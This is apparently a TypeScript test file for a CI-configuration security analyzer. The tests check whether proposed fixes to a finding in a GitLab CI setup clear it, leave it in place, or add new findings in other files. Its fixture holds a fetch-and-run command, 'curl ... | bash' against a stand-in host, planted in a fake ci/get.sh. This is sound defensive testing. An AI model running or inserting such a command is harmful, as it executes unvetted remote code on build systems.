import assert from "node:assert/strict";
import { analyze } from "../../server/core/analyze.ts";
import { objection, objectionTo, withEdits } from "../../server/core/fix.ts";
import { DEFAULT_SETTINGS } from "../../server/core/settings.ts";
import type { Edit } from "../../server/core/text.ts";

const COMMAND = "curl -s https://x.example/i.sh | bash";
const file = {
  path: ".gitlab-ci.yml",
  text: "a:\n  script:\n    - ./ci/get.sh\n    - ./ci/run.sh\n",
};
const files: Readonly<Record<string, string>> = { "ci/get.sh": `#!/bin/sh\n${COMMAND}\n`, "ci/run.sh": "#!/bin/sh\n" };
const context = { read: (path: string) => files[path], list: () => [] };

/** Replaces the first place of a text in a file; a path is written down only where it is given. */
function replace(path: string | undefined, before: string, after: string): Edit {
  const start = (files[path ?? ""] ?? file.text).indexOf(before);
  assert.ok(start >= 0);
  return { ...(path !== undefined && { path }), span: { start, end: start + before.length }, text: after };
}

function objectionAgainst(...edits: readonly Edit[]): string | undefined {
  const [finding] = analyze(file, context, DEFAULT_SETTINGS).findings;
  assert.equal(finding?.path, "ci/get.sh");
  return objection(file, finding, { title: "", edits }, context, DEFAULT_SETTINGS);
}

describe("a fix is judged on all files as they will be", () => {
  it("and is sound where an edit of another file heals", () => {
    assert.equal(objectionAgainst(replace("ci/get.sh", COMMAND, "make")), undefined);
  });

  it("and is refused where that file stays as bad as it was", () => {
    assert.match(objectionAgainst(replace("ci/get.sh", "-s", "-fsS")) ?? "", /not have healed/);
    assert.match(objectionAgainst(replace("ci/run.sh", "#!", "# !")) ?? "", /not have healed/);
  });

  it("and is refused where it makes another file worse", () => {
    const edits = [replace("ci/get.sh", COMMAND, "make"), replace("ci/run.sh", "\n", `\n${COMMAND}\n`)];
    assert.match(objectionAgainst(...edits) ?? "", /new finding/);
    assert.match(objectionTo(file, edits.slice(1), context, DEFAULT_SETTINGS) ?? "", /new finding/);
    assert.equal(objectionTo(file, edits.slice(0, 1), context, DEFAULT_SETTINGS), undefined);
  });

  it("with the files that it makes, and edits of its own file with and without a path", () => {
    const call = replace(undefined, "./ci/get.sh", "./ci/new.sh");
    assert.equal(objectionAgainst(call), undefined);
    assert.equal(objectionAgainst({ ...call, path: file.path }), undefined);
    const made = { path: "ci/new.sh", create: files["ci/get.sh"] ?? "" };
    assert.match(objectionAgainst(call, made) ?? "", /new finding/);
    const { file: edited, context: around } = withEdits(file, [call, made], context);
    assert.match(edited.text, /new\.sh/);
    assert.equal(around.read(file.path), edited.text);
    assert.equal(around.read("ci/new.sh"), made.create);
    assert.equal(around.read("missing"), undefined);
  });
});
